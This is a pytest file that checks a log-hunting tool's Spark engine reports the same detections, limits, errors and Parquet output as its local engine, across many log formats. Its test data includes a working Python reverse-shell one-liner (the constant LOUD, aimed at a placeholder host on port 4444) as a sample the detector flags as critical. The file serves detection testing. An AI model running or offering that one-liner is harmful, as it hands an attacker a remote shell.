"""``hunt --engine spark`` on a real Spark of this machine: row for row what the local engine says of the same files."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from click.testing import CliRunner

from flycatcher.commands import cli
from flycatcher.core.errors import FlycatcherError
from tests.hunt.helpers import event, written
from tests.hunt.test_formats import CASES

pyspark = pytest.importorskip("pyspark")
pytestmark = [
    pytest.mark.skipif(shutil.which("java") is None, reason="no Java: tools/setup.sh test installs one"),
    pytest.mark.xdist_group("spark"),  # one session for all
]
LOUD = "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')"
ROOT = Path(__file__).parents[2]
SPLIT = 1 << 14
"""Bytes from which on Spark cuts a file here."""


@pytest.fixture(scope="module")
def spark():
    """Return a session with two executors' threads, in which files are cut into small pieces."""
    before = os.environ.get("PYSPARK_PYTHON")
    os.environ["PYSPARK_PYTHON"] = sys.executable
    from pyspark.sql import SparkSession  # noqa: PLC0415 - of the extra

    options = {
        "spark.ui.enabled": "false",
        "spark.log.level": "OFF",
        "spark.ui.showConsoleProgress": "false",
        "spark.driver.host": "127.0.0.1",
        "spark.driver.bindAddress": "127.0.0.1",
        "spark.sql.shuffle.partitions": "3",
        "spark.sql.files.maxPartitionBytes": str(SPLIT),
        "spark.driver.extraJavaOptions": "-XX:+UseSerialGC -XX:TieredStopAtLevel=1",
    }
    session = SparkSession.builder.master("local[2]").config(map=options).getOrCreate()
    yield session
    session.stop()
    os.environ.pop("PYSPARK_PYTHON") if before is None else os.environ.update(PYSPARK_PYTHON=before)


def starts(*words, first=1, **named):
    return [
        line
        for serial, argv in enumerate(words, first)
        for line in event(serial, argv, exe=f"/usr/bin/{argv[0]}", **named)
    ]


def hunt(*words, code=0):
    result = CliRunner(catch_exceptions=True).invoke(cli, ["hunt", *map(str, words)])
    if isinstance(result.exception, FlycatcherError):
        assert result.exception.code == code, result.exception
        return result
    assert result.exit_code == code, (result.output, result.exception)
    return result


def report(out, *words):
    hunt(*words, "-q", "--format", "jsonl", "-o", out)
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    return rows[:-1], rows[-1]["summary"]


def on_both(folder, *words):
    """Return what the two engines report: rows and figures of the local one, then of Spark."""
    return (
        *report(folder / "local.jsonl", *words),
        *report(folder / "spark.jsonl", *words, "--engine", "spark"),
    )


def lines_of(case):
    lines = CASES[case].lines
    return (
        lines
        if isinstance(lines, str)
        else "".join(f"{each if isinstance(each, str) else json.dumps(each)}\n" for each in lines)
    )


def of_many_kinds(folder):
    """Write logs of many formats, in all the ways in which Spark reads: cut, whole, packed, joined, in columns."""
    pyarrow, parquet = pytest.importorskip("pyarrow"), pytest.importorskip("pyarrow.parquet")
    server = event(1, ["nginx"], exe="/usr/sbin/nginx", pid=30)
    lineage = [
        line
        for at in range(2, 90)
        for line in starts(
            ["perl", "-e", f"print {at}"], first=at * 2, pid=100 + at, ppid=30 if at % 3 == 0 else 99 + at
        )
    ]
    written(folder, "".join(server + lineage), "audit.log")  # larger than SPLIT, with missing serial numbers
    (folder / "rotated").mkdir()
    series = starts(*[["perl", "-e", f"print 'r{at}'"] for at in range(24)], first=1000)
    written(folder / "rotated", gzip.compress("".join(series[:52]).encode()), "audit.log.2.gz")  # within an event
    written(folder / "rotated", "".join(series[52:97]), "audit.log.1")
    written(folder / "rotated", lzma.compress("".join(series[97:]).encode()), "audit.log")
    (folder / "a folder").mkdir()
    for name in ("laurel", "ecs", "falco", "tetragon", "osquery", "tracee", "sysmon", "kubernetes"):
        written(folder / "a folder", lines_of(name), f"{name}.log") if name in CASES else None
    written(folder, bz2.compress("".join(starts(["php", "-r", "echo 1;"])).encode()), "packed.log.bz2")
    written(folder, gzip.compress("".join(starts(["php", "-r", "echo 2;"])).encode()), "misnamed.log")
    with zipfile.ZipFile(folder / "logs.zip", "w") as archive:
        archive.writestr("one.log", "".join(starts(["php", "-r", "echo 3;"])))
        archive.writestr("two.log", "".join(starts(["php", "-r", "echo 4;"])))
    written(folder, "#1700000000\npython3 -c 'import os; os.system(\"id\")'\nls\n", ".bash_history")
    written(folder, json.dumps(json.loads(json.dumps(CASES["ecs"].lines * 3))), "document.json")
    written(folder, "nothing\nknown\n" * 20, "unknown.txt")
    written(folder, b"", "empty.log")
    rows = json.loads(json.dumps(CASES["defender"].lines * 200))
    parquet.write_table(pyarrow.Table.from_pylist(rows), folder / "defender.parquet", row_group_size=40)
    lines = starts(*[["lua", "-e", f"print({at})"] for at in range(9)])
    parquet.write_table(
        pyarrow.table({"value": [line[:-1] for line in lines]}), folder / "lines.parquet", row_group_size=16
    )


def test_spark_says_row_for_row_what_the_local_engine_says(tmp_path, spark):
    logs = tmp_path / "logs"
    logs.mkdir()
    of_many_kinds(logs)
    local, figures, cluster, on_spark = on_both(tmp_path, logs)
    found = [row for row in local if row["schema"] == "flycatcher.detection/1"]
    assert len(found) > 300
    assert {row["interpreter"] for row in found} == {"perl", "php", "python", "lua"}
    assert sum(bool(row["execution"].get("ancestry")) for row in found) > 80
    assert [row for row in cluster if row["schema"] == "flycatcher.detection/1"] == found
    assert Counter(map(str, (row for row in cluster if row["schema"] == "flycatcher.notice/1"))) == Counter(
        map(str, (row for row in local if row["schema"] == "flycatcher.notice/1"))
    )
    for name in figures.keys() - {"bytes"}:
        assert on_spark[name] == figures[name], name


def test_limits_suppressions_and_the_exit_code_are_the_same(tmp_path, spark, monkeypatch):
    monkeypatch.chdir(tmp_path)
    text = starts(["perl", "-e", "print 1"], node="a") + starts(["python3", "-c", LOUD], first=2, node="b")
    written(tmp_path, "".join(text), "audit.log")
    hunt("audit.log", "--engine", "spark", "-q", "--fail-on", "high", code=10)
    rows, _ = report(tmp_path / "out", "audit.log", "--engine", "spark", "--host", "b")
    assert [row["execution"]["fidelity"]["log"] for row in rows] == ["audit.log"]
    (tmp_path / "flycatcher.toml").write_text(
        f'[[suppress]]\nfingerprint = "{rows[0]["id"]}"\nreason = "known since the move"\nowner = "ops"\nuntil = 2099-01-01\n'
    )
    hunt("audit.log", "--engine", "spark", "-q", "--fail-on", "high")


def test_what_is_broken_is_said_and_ends_nothing(tmp_path, spark):
    logs = tmp_path / "logs"
    logs.mkdir()
    good = "".join(starts(["perl", "-e", "print 1"]))
    many = "".join(starts(*[["perl", "-e", f"print {at * at}"] for at in range(60)])).encode()
    written(
        logs, b"type=EXECVE msg=audit(\n{\n\xff\xfe\0\n" + b"x" * 9000 + b"\n" + good.encode() + b"torn", "audit.log"
    )
    written(logs, gzip.compress(many)[:900], "cut.log.gz")
    written(logs, b"PAR1" + b"\0" * 100, "no.parquet")
    written(logs, b"PK\x03\x04" + b"\0" * 100, "no.zip")
    result = hunt(logs, "--engine", "spark", "--format", "jsonl", "-o", tmp_path / "out")
    rows = [json.loads(line) for line in (tmp_path / "out").read_text().splitlines()]
    found = Counter(os.path.basename(row["execution"]["fidelity"]["log"]) for row in rows[:-1] if "execution" in row)
    assert found["audit.log"] == 1
    assert 0 < found["cut.log.gz"] < 60
    assert "cut.log.gz: broken, or several files in one: it was unpacked to " in result.stderr
    assert "no.parquet: broken: 0 rows were read" in result.stderr
    assert "no.zip: broken: " in result.stderr


def test_parquet_is_parted_by_day_and_has_the_documented_columns(tmp_path, spark):
    parquet = pytest.importorskip("pyarrow.parquet")
    from flycatcher.hunt.arrow import SCHEMA  # noqa: PLC0415 - of the extra

    text = starts(["perl", "-e", "print 'password=hunter2secret'"], time=1700000000.0)
    text += starts(["python3", "-c", LOUD], first=2, time=1700100000.0)
    path, out = written(tmp_path, "".join(text)), tmp_path / "found"
    hunt(path, "--engine", "spark", "-q", "--format", "parquet", "-o", out)
    assert sorted(each.name for each in out.iterdir() if each.is_dir()) == ["day=2023-11-14", "day=2023-11-16"]
    rows = spark.read.parquet(str(out)).orderBy("time").collect()
    assert [row["interpreter"] for row in rows] == ["perl", "python"]
    assert rows[1]["risk"]["level"] == "critical"
    assert rows[1]["execution"]["context"]["user.login"] == "1000"
    (file,) = (out / "day=2023-11-14").glob("*.parquet")
    assert parquet.ParquetFile(file).schema_arrow.names == SCHEMA.names
    hunt(path, "--engine", "spark", "-q", "-o", out, "--format", "parquet", code=2)  # nothing is overwritten


def test_the_code_of_the_how_to_page_runs(tmp_path, spark):
    page = (ROOT / "docs/how-to/hunt-on-spark.md").read_text(encoding="utf-8")
    notebook, mapped, streamed = re.findall(r"```python\n(.*?)```", page, re.DOTALL)
    arriving = tmp_path / "arriving"
    arriving.mkdir()
    found = tmp_path / "found"
    text = "".join(starts(*[["perl", "-e", f"print {at}"] for at in range(40)]))  # larger than SPLIT
    names = {"spark": spark, "logs": str(written(tmp_path, text, "audit.log")), "arriving": str(arriving)}
    names |= {"found_folder": str(found), "state": str(tmp_path / "state")}
    exec(notebook, names)
    assert names["found"].count() == 40
    assert [row["execution"]["argv"][2] for row in names["found"].orderBy("fidelity.line").collect()][:3] == [
        "print 0",
        "print 1",
        "print 2",
    ]
    exec(mapped, names)
    for at in (1, 2):  # the second time, only what has come since
        written(arriving, text.replace("print", f"print{at}"), f"{at}.log")
        exec(streamed, names)
        rows = spark.read.parquet(str(found)).selectExpr("fidelity.log", "fidelity.line").collect()
        assert len(rows) == 40 * at
        assert sorted(row["line"] for row in rows if row["log"].endswith(f"/{at}.log")) == list(range(1, 200, 5))


def test_what_cannot_be_done_is_refused(tmp_path, spark):
    path = written(tmp_path, "".join(starts(["perl", "-e", "1"])))
    assert "no such file" in str(hunt(tmp_path / "nowhere", "--engine", "spark", code=3).exception)
    assert "not standard input" in str(hunt("-", "--engine", "spark", code=2).exception)
    assert "--follow: not with" in str(hunt(path, "--engine", "spark", "--follow", code=2).exception)
    assert "--checkpoint: not with" in str(hunt(path, "--engine", "spark", "--checkpoint", "s", code=2).exception)
    assert "no file system for nosuch" in str(hunt("nosuch://x/y", "--engine", "spark", code=1).exception)
    (tmp_path / "table" / "_delta_log").mkdir(parents=True)
    assert "a table of Delta, which this Spark does not read" in str(
        hunt(tmp_path / "table", "--engine", "spark", code=1).exception
    )
    hunt(path, "--master", "local[2]", code=2)


def command(*words, **environment):
    done = subprocess.run(
        [sys.executable, "-m", "flycatcher", "hunt", "--engine", "spark", *map(str, words)],
        env={**os.environ, **environment},
        capture_output=True,
        text=True,
        check=False,
    )
    assert "Traceback" not in done.stderr
    return done


def test_no_java_and_no_master_are_said_before_anything_is_started(tmp_path):
    path = written(tmp_path, "".join(starts(["perl", "-e", "1"])))
    assert "no Java is here" in command(path, PATH=str(tmp_path), JAVA_HOME="").stderr
    assert f"JAVA_HOME is {tmp_path}" in command(path, JAVA_HOME=str(tmp_path)).stderr
    assert (
        "the master does not answer: 127.0.0.1:1: Connection refused"
        in command(path, "--master", "spark://127.0.0.1:1").stderr
    )
